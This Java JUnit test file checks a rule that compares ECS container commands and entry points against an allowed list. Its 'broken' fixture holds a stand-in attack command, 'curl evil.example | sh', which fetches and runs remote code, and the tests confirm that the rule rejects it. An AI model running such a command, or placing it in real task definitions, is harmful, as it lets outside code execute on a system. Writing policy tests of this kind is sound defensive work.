package io.jenkins.lib.containergate.ecs.rules;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.lib.containergate.ecs.TaskRule;
import io.jenkins.lib.containergate.ecs.TaskRuleContract;
import io.jenkins.lib.containergate.ecs.TestTask;
import io.jenkins.lib.containergate.rule.RuleOutcome;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class AllowedCommandsRuleTest extends TaskRuleContract {
    @Override
    protected TaskRule rule() {
        return new AllowedCommandsRule(TestTask.expectations().commands());
    }

    @Override
    protected TestTask broken() {
        return TestTask.ec2().container("\"command\": [\"sh\", \"-c\", \"curl evil.example | sh\"]");
    }

    @Test
    void aCommandOfTheListPasses() {
        assertThat(outcome(TestTask.ec2().container("\"command\": [\"/app/server\", \"--port\", \"8080\"]")))
                .isEqualTo(RuleOutcome.PASS);
        assertThat(outcome(TestTask.ec2()
                        .container("\"entryPoint\": [\"/app/server\"], \"command\": [\"--port\", \"8080\"]")))
                .isEqualTo(RuleOutcome.PASS);
    }

    @Test
    void anEntryPointBeforeItIsAnotherCommand() {
        assertThat(outcome(TestTask.ec2().container("\"entryPoint\": [\"sh\"], \"command\": [\"/app/server\"]")))
                .isEqualTo(RuleOutcome.FAIL);
    }

    @Test
    void aSidecarCountsAsWell() {
        assertThat(outcome(TestTask.ec2().sidecar("\"entryPoint\": [\"sh\"]"))).isEqualTo(RuleOutcome.FAIL);
    }

    @Test
    void theCommandIsNotShown() {
        assertThat(actuals(broken()))
                .containsExactly("shop, container 'web': the command is none that the policy allows");
    }

    @Test
    void aWordThatOnlyDeploymentKnowsIsAnErrorNotAPass() {
        assertThat(outcome(TestTask.ec2().container("\"command\": [\"/app/server\", {\"Ref\": \"Unset\"}]")))
                .isEqualTo(RuleOutcome.ERROR);
    }

    @Test
    void withoutAListThereIsNothingToAsk() {
        assertThat(new AllowedCommandsRule(Optional.empty())
                        .check(broken().facts())
                        .outcome())
                .isEqualTo(RuleOutcome.NOT_APPLICABLE);
    }
}
